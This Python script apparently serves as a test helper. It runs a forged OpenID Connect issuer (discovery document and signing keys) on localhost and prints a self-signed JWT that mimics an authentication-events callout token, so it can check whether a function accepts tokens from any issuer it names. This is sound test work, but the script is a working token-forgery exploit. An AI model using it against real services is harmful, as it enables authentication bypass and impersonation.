"""Anyone's issuer: its own discovery document and keys on 127.0.0.1, and a token it signed that claims what a tenant's
callout token claims (the function's app as audience, the authentication events app as azp). A function that looks up
the keys of whatever issuer a token names would accept it.

Usage: forged_issuer.py --audience APP_ID   (prints one JSON line: {"url", "token"}; serves until killed)
"""
import json
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

EVENTS_APP = "99045fe1-7639-4a75-9d4a-577b6ca3810f"


def main(argv):
    audience = argv[argv.index("--audience") + 1]
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    public.update(kid="forged", use="sig", alg="RS256")
    documents = {}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            body = documents.get(self.path.split("?")[0])
            data = json.dumps(body or {}).encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    issuer = f"http://127.0.0.1:{server.server_port}/forged/v2.0"
    documents["/forged/v2.0/.well-known/openid-configuration"] = {
        "issuer": issuer, "jwks_uri": f"http://127.0.0.1:{server.server_port}/forged/keys"}
    documents["/forged/keys"] = {"keys": [public]}
    now = int(time.time())
    token = jwt.encode({"iss": issuer, "aud": audience, "azp": EVENTS_APP, "appid": EVENTS_APP, "iat": now, "nbf": now,
                        "exp": now + 3600, "ver": "2.0"}, key, algorithm="RS256", headers={"kid": "forged"})
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(json.dumps({"url": issuer, "token": token}), flush=True)
    threading.Event().wait()


main(sys.argv[1:])
